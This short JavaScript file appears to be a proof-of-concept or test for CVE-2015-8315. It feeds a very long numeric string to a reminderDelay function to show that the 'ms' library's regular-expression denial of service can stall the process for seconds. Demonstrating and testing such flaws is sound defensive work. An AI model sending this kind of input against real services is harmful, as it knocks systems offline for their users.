// CVE-2015-8315: one request with a long number keeps ms busy for seconds.
'use strict';
const { reminderDelay } = require('../lib/reminders');

try {
  reminderDelay('1'.repeat(25000) + 'x');
} catch (error) {
  console.log(error.message);
}
